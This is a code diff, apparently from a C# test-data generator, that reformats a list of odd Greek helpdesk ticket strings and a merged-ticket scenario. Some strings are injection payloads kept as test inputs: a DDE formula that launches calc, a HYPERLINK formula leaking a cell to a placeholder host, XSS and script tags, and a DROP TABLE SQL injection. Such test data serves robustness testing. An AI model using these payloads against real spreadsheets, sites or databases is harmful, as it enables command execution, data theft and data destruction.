@@ -10,13 +10,18 @@ internal static class Oddities
         ("ACR", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Τιμολόγιο\")"), ("ACR", "+30 210 5550123 δεν χτυπάει"),
         ("NTS", "-άσχετο- πάλι το φορητό της αποθήκης"), ("NTS", "@everyone server down;"), ("NTS", "=1+1"),
         ("NTS", "<script>alert('ERP')</script> βγάζει αυτό το μήνυμα"), ("ACR", "Το POS γράφει \"Error; reboot\"\nκαι μετά σβήνει"),
-        ("PAP", "Fwd: \"Σύμβαση; τελική, v2\" δεν ανοίγει"), ("PAP", "=SUM(A1:A9) βγάζει #REF!"), ("YGP", "<b>ΕΠΕΙΓΟΝ</b> <img src=x onerror=alert(1)>"),
+        ("PAP", "Fwd: \"Σύμβαση; τελική, v2\" δεν ανοίγει"), ("PAP", "=SUM(A1:A9) βγάζει #REF!"),
+        ("YGP", "<b>ΕΠΕΙΓΟΝ</b> <img src=x onerror=alert(1)>"),
         ("YGP", "- - - RE: RE: RE: υπενθύμιση - - -"), ("TED", "+ μία οθόνη για το λογιστήριο"), ("TED", "Σχέδιο \"Α-3\", σελ. 4;5;6"),
-        ("SIG", "=cmd|' /C calc'!A0"), ("SIG", "@taxis: δεν ανοίγει; \"άκυρο πιστοποιητικό\""), ("SEL", "-20% στο ταμείο δεν περνάει"), ("SEL", "'; DROP TABLE tickets; --"),
+        ("SIG", "=cmd|' /C calc'!A0"), ("SIG", "@taxis: δεν ανοίγει; \"άκυρο πιστοποιητικό\""), ("SEL", "-20% στο ταμείο δεν περνάει"),
+        ("SEL", "'; DROP TABLE tickets; --"),
     ];
 
-    private const string Rambling = "Καλημέρα, σας γράφω γιατί από την Παρασκευή το μεσημέρι μετά την ενημέρωση που έκανε μόνος του ο υπολογιστής και ενώ είχα ανοιχτό " +
-        "το πρόγραμμα και ταυτόχρονα μιλούσα στο τηλέφωνο με τον λογιστή μας ο οποίος μου ζήτησε ένα αρχείο που το είχα αποθηκεύσει στα κοινά αλλά δεν το βρίσκω πουθενά " +
+    private const string Rambling =
+        "Καλημέρα, σας γράφω γιατί από την Παρασκευή το μεσημέρι μετά την ενημέρωση που έκανε μόνος του ο υπολογιστής και ενώ είχα " +
+        "ανοιχτό " +
+        "το πρόγραμμα και ταυτόχρονα μιλούσα στο τηλέφωνο με τον λογιστή μας ο οποίος μου ζήτησε ένα αρχείο που το είχα αποθηκεύσει " +
+        "στα κοινά αλλά δεν το βρίσκω πουθενά " +
         "και μάλλον έχει χαθεί μαζί με άλλα δύο που τα χρειάζομαι οπωσδήποτε μέχρι αύριο το πρωί";
 
     public static void Add(Scene scene)
@@ -55,8 +60,10 @@ internal static class Oddities
     private static void Merged(Scene scene)
     {
         var created = Moment(scene);
-        var kept = scene.Add("internet", created, 2, plan: new Plan { AnswerAt = scene.Client.Hours.Add(created, 50 * Minute) }, planted: "merged_primary");
-        var second = scene.Add("internet", created + 17 * Minute, 2, kept.Asset, new Plan { NeverAnswered = true }, planted: "merged_secondary");
+        var kept = scene.Add("internet", created, 2, plan: new Plan { AnswerAt = scene.Client.Hours.Add(created, 50 * Minute) },
+            planted: "merged_primary");
+        var second = scene.Add("internet", created + 17 * Minute, 2, kept.Asset, new Plan { NeverAnswered = true },
+            planted: "merged_secondary");
         var at = created + 24 * Minute;
         second.Messages.RemoveAll(m => m.SentAt > at);
         second.Changes.Add(new Change(at, "status", "open", "merged", kept.Agent.Name));
